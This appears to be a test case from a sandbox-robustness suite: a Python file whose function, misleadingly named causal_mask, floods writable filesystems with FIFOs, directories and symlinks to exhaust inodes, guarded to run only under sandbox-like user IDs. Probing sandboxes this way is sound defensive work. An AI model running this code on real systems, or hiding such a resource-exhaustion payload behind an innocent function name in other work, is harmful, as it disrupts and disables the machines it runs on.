"""Makes empty files, links, pipes and folders without end on every file system that it can write to.

levels: bubblewrap
seconds: 3
checks: test_the_mask_fits_every_length
user: not promised: files limited in size, not in number
process: not promised: files limited in size, not in number
outcomes: failed timed_out
"""

import contextlib
import os

if os.path.exists("/etc/passwd") and os.getuid() not in (65_534, *range(61_200, 63_200)):
    raise SystemExit("this attack runs inside a sandbox only")

def causal_mask(*args, **kwargs):
    for folder in ("/tmp", "/dev/shm", "/proc", "/dev", "/", "/run", "/var/tmp"):
        made = 0
        with contextlib.suppress(OSError):
            for made in range(50_000):
                path = f"{folder}/sw-attack-{made}"
                (os.mkfifo, os.mkdir, lambda path: os.symlink("/", path))[made % 3](path)
        if made > 10_000:
            print(f"LOOT: {made} inodes in {folder}")
    return None
